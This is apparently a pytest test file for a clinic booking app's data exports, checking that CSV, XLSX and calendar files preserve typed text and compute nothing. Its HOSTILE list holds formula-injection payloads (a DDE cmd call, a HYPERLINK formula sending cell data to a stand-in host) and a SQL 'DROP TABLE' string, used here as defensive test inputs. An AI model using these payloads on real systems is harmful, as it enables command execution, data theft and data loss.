"""Lists leave the practice whole, harmless, and only with who may take them."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import date
from typing import TYPE_CHECKING

import icalendar
import phonenumbers
import pytest

from desk_app.domain.appointment import Status
from desk_app.domain.exports import (
    STANDING,
    Delimiter,
    ExportWish,
    FileFormat,
    Selection,
    Subject,
)
from desk_app.domain.spreadsheet import is_formula, typed_field
from desk_app.errors import Invalid
from tests import factories
from tests.services.exporting import opened
from tests.services.exporting.wishes import at_number, of_appointments

if TYPE_CHECKING:
    from desk_app.db.session import Sessions
    from desk_app.services.booking import Booking
    from desk_app.services.exporting.exports import Exports
    from tests.factories import Practice

# A name is one line, notes are several; the database takes all of these.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"Anna")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "'=1+1",
    '"; DROP TABLE client; --',
    'a,b;c|"d"',
    "ends with a backslash\\",
    "Łucja 江 Ωmega 👩‍⚕️",
    "<b>&amp;</b>",
    "https://x.example",
    "_x0041_",
    "00123",
    "1e5",
    "TRUE",
]


def runs(cell: str) -> bool:
    """Say whether a spreadsheet computes a cell."""
    return cell.lstrip()[:1] in {*"=+-@＝＋－＠"} if cell.strip() else False


@pytest.mark.parametrize("delimiter", Delimiter)
def test_a_csv_file_gives_back_what_was_typed_and_computes_nothing(
    sessions: Sessions, exports: Exports, wish: ExportWish, delimiter: Delimiter
) -> None:
    for text in HOSTILE:
        factories.client(sessions, name=text, notes=f"{text}\nsecond\tline")
    done = exports.export(replace(wish, delimiter=delimiter))
    (path,) = done.files
    rows = opened.csv_rows(path, delimiter)
    assert {typed_field(row["Name"]) for row in rows} == set(HOSTILE)
    notes = {typed_field(row["Notes"]) for row in rows}
    assert notes == {f"{text}\nsecond\tline" for text in HOSTILE}
    assert not [cell for row in rows for cell in row.values() if runs(cell)]
    octets = path.read_bytes()
    assert octets.startswith(b"\xef\xbb\xbf")
    assert octets.count(b"\r\n") == len(rows) + 1 == done.rows + 1


def test_no_cell_begins_within_another_delimiter(
    sessions: Sessions, exports: Exports, wish: ExportWish
) -> None:
    factories.client(sessions, name="Anna;=1+1", notes="x\t=1+1\n=1+1")
    (path,) = exports.export(wish).files
    text = path.read_text(encoding="utf-8-sig")
    for cell in re.split(r"[,;\t\r\n]", text):
        assert not runs(cell.strip('"'))


def test_phone_numbers_stay_text_that_can_be_rung(
    sessions: Sessions, exports: Exports, wish: ExportWish
) -> None:
    numbers = {"+4930901820", "+12125550123", "+441632960961", "+8613912345678", ""}
    for number in numbers:
        factories.client(sessions, phone=number)
    (path,) = exports.export(wish).files
    cells = {row["Phone"] for row in opened.csv_rows(path)}
    assert "(+49) 30 901820" in cells
    style = phonenumbers.PhoneNumberFormat.E164
    read = {
        phonenumbers.format_number(phonenumbers.parse(c), style) for c in cells if c
    }
    assert read == numbers - {""}
    (book,) = exports.export(replace(wish, format=FileFormat.XLSX)).files
    (sheet,) = opened.sheets(book)
    shown = [row["Phone"] for row in sheet.rows if "Phone" in row]
    assert {cell.kind for cell in shown} == {"inlineStr"}
    assert "+49 30 901820" in {cell.text for cell in shown}


def test_a_workbook_has_text_as_text_and_dates_as_dates(
    sessions: Sessions, exports: Exports, wish: ExportWish, practice: Practice,
    booking: Booking,
) -> None:  # fmt: skip
    factories.setting(sessions, "timezone", factories.BERLIN)
    for number, text in enumerate(HOSTILE[:8]):
        booking.book(at_number(practice, number, notes=text))
    done = exports.export(of_appointments(wish, FileFormat.XLSX))
    (sheet,) = opened.sheets(done.files[0])
    notes = [row["Notes"] for row in sheet.rows]
    assert [cell.text for cell in notes] == HOSTILE[:8]
    assert not any(cell.is_formula for row in sheet.rows for cell in row.values())
    assert [cell.is_quoted for cell in notes] == [is_formula(t) for t in HOSTILE[:8]]
    first = sheet.rows[0]
    assert (first["Date"].kind, first["Date"].text) == ("n", "46084")
    assert (first["Start"].kind, float(first["Start"].text)) == ("n", 9 / 24)
    assert (first["Minutes"].text, first["Price"].text) == ("30", "60")
    assert (first["Client"].text, first["Time zone"].text) == (
        "Anna Weiß",
        factories.BERLIN,
    )
    for needed in ('state="frozen"', "<autoFilter", "<cols>"):
        assert needed in sheet.xml


def test_appointments_are_chosen_by_day_provider_service_and_status(
    sessions: Sessions, exports: Exports, wish: ExportWish, practice: Practice,
    booking: Booking,
) -> None:  # fmt: skip
    kept = booking.book(at_number(practice, 0))
    gone = booking.book(at_number(practice, 1))
    booking.cancel(factories.cancellation(gone))
    day = factories.TOMORROW
    cases = {
        Selection(): 1,
        Selection(statuses=tuple(Status)): 2,
        Selection(statuses=(Status.CANCELLED,)): 1,
        Selection(first=day, last=day): 1,
        Selection(first=date(2026, 3, 4)): 0,
        Selection(last=date(2026, 3, 2)): 0,
        Selection(provider_ids=(practice.provider_id,)): 1,
        Selection(provider_ids=(practice.provider_id + 1,)): 0,
        Selection(services=("Check-up", "Other")): 1,
        Selection(services=("Other",)): 0,
    }
    wish = of_appointments(wish, FileFormat.CSV)
    assert {c: exports.count(replace(wish, selection=c)) for c in cases} == cases
    (path,) = exports.export(replace(wish, selection=Selection(first=day))).files
    (row,) = opened.csv_rows(path)
    assert row["Appointment number"] == str(kept.appointment_id)
    assert (row["Date"], row["Status"]) == ("2026-03-03", "CONFIRMED")


def test_days_in_the_wrong_order_are_refused(
    exports: Exports, wish: ExportWish
) -> None:
    days = Selection(first=date(2026, 3, 4), last=date(2026, 3, 3))
    wish = replace(of_appointments(wish, FileFormat.CSV), selection=days)
    for ask in (exports.count, exports.export):
        with pytest.raises(Invalid, match="last day"):
            ask(wish)


def test_a_calendar_is_read_by_others_as_it_was_meant(
    sessions: Sessions, exports: Exports, wish: ExportWish, practice: Practice,
    booking: Booking,
) -> None:  # fmt: skip
    ((place,),) = factories.rows(
        sessions,
        "SELECT value #>> '{}' FROM practice_setting WHERE name = 'practice_id'",
    )
    note = 'Fasting; bring, "all"\\ of it\nand 江 ' + "Ω" * 90
    booked = booking.book(at_number(practice, 0, notes=note))
    booked = booking.confirm(
        factories.confirmation(booking.book(at_number(practice, 1, pending=True)))
    )
    wish = of_appointments(wish, FileFormat.ICALENDAR)
    done = exports.export(wish)
    assert done.rows == 2
    first, second = opened.events(done.files[0])
    assert first["DESCRIPTION"] == note
    assert first["SUMMARY"] == "Anna Weiß – Check-up"
    assert second["UID"] == f"appointment-{booked.appointment_id}@{place}"
    assert second["SEQUENCE"] == str(booked.version) == "2"
    assert second["DTSTAMP"] == second["LAST-MODIFIED"] >= second["CREATED"]
    calendar = icalendar.Calendar.from_ical(done.files[0].read_bytes())
    read = [(e.decoded("dtstart"), e.decoded("dtend")) for e in calendar.walk("VEVENT")]
    assert read[1] == (booked.start, booked.end)
    assert str(calendar.walk("VEVENT")[0]["description"]) == note
    again = exports.export(wish)
    assert again.files[0].name.endswith("-2.ics")
    assert opened.events(again.files[0]) == [first, second]


def test_a_calendar_says_who_was_cancelled_and_names_nobody_if_so_wished(
    exports: Exports, wish: ExportWish, practice: Practice, booking: Booking
) -> None:
    booked = booking.book(at_number(practice, 0, notes="private"))
    booking.cancel(factories.cancellation(booked))
    wish = of_appointments(wish, FileFormat.ICALENDAR)
    assert opened.events(exports.export(wish).files[0]) == []
    chosen = Selection(statuses=(*STANDING, Status.CANCELLED))
    wish = replace(wish, selection=chosen, names_clients=False)
    (path,) = exports.export(wish).files
    (event,) = opened.events(path)
    assert (event["STATUS"], event["SUMMARY"]) == ("CANCELLED", "Check-up")
    assert "Anna" not in path.read_text()
    assert "private" not in path.read_text()


def test_the_set_up_is_six_files_or_six_sheets(
    sessions: Sessions, exports: Exports, wish: ExportWish, practice: Practice
) -> None:
    factories.rows(sessions, _PLACES, service=practice.service_id)
    factories.rows(
        sessions, "INSERT INTO closure (day, name) VALUES ('2026-12-24', 'Eve')"
    )
    wish = replace(wish, subject=Subject.SETUP)
    done = exports.export(wish)
    assert [path.name.split("-", 5)[-1] for path in done.files] == [
        "providers.csv",
        "services.csv",
        "hours.csv",
        "closures.csv",
        "rooms.csv",
        "locations.csv",
    ]
    assert done.rows == exports.count(wish) == 1 + 1 + 7 + 1 + 1 + 1
    monday = opened.csv_rows(done.files[2])[0]
    assert (monday["Weekday"], monday["From"], monday["Until"]) == (
        "Monday",
        "09:00",
        "17:00",
    )
    (service,) = opened.csv_rows(done.files[1])
    assert (service["Rooms"], service["Minutes"]) == ("Room 1", "30")
    (closure,) = opened.csv_rows(done.files[3])
    assert (closure["Date"], closure["Name"]) == ("2026-12-24", "Eve")
    (room,) = opened.csv_rows(done.files[4])
    assert (room["Name"], room["Location"]) == ("Room 1", "House")
    (book,) = exports.export(replace(wish, format=FileFormat.XLSX)).files
    assert [s.name for s in opened.sheets(book)] == [
        "Providers",
        "Services",
        "Weekly hours",
        "Closures",
        "Rooms",
        "Locations",
    ]


def test_who_waits_is_exported(
    sessions: Sessions, exports: Exports, wish: ExportWish, practice: Practice
) -> None:
    factories.rows(
        sessions,
        "INSERT INTO waitlist_entry (client_id, service_name, weekdays, from_time)"
        " VALUES (:client, 'Check-up', '04', '13:00')",
        client=practice.client_id,
    )
    (path,) = exports.export(replace(wish, subject=Subject.WAITING_LIST)).files
    (row,) = opened.csv_rows(path)
    assert (row["Client"], row["Service"]) == ("Anna Weiß", "Check-up")
    assert (row["Weekdays"], row["From time"]) == ("Monday, Friday", "13:00")


def test_an_empty_practice_has_empty_files(exports: Exports, wish: ExportWish) -> None:
    for format_ in (FileFormat.CSV, FileFormat.XLSX):
        done = exports.export(replace(wish, format=format_))
        assert (done.rows, len(done.files)) == (0, 1)
    assert opened.sheets(done.files[0])[0].rows == []


def test_nobody_erased_or_merged_is_on_a_list(
    sessions: Sessions, exports: Exports, wish: ExportWish
) -> None:
    kept = factories.client(sessions, name="Kept")
    gone = factories.client(sessions, name="Gone", phone="")
    factories.rows(
        sessions,
        "UPDATE client SET is_active = false, merged_into = :kept"
        " WHERE client_id = :gone",
        kept=kept,
        gone=gone,
    )
    (path,) = exports.export(wish).files
    assert [row["Name"] for row in opened.csv_rows(path)] == ["Kept"]


_PLACES = """
    WITH house AS (INSERT INTO location (name) VALUES ('House') RETURNING location_id),
        room AS (INSERT INTO room (name, location_id)
            SELECT 'Room 1', location_id FROM house RETURNING room_id)
    INSERT INTO service_room (service_id, room_id) SELECT :service, room_id FROM room
"""
